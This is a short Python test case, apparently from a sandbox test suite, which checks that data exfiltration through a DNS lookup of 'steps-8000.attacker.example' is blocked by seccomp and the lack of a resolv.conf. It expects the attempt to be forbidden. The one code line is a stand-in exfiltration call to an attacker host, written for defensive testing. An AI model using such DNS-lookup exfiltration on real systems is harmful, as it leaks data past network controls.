# Attack: leak data through a DNS lookup of an attacker's name.
# Contained by: there is no resolv.conf, and the resolver's socket is killed by seccomp.
# Expect: forbidden
import socket

return socket.getaddrinfo('steps-8000.attacker.example', 53)
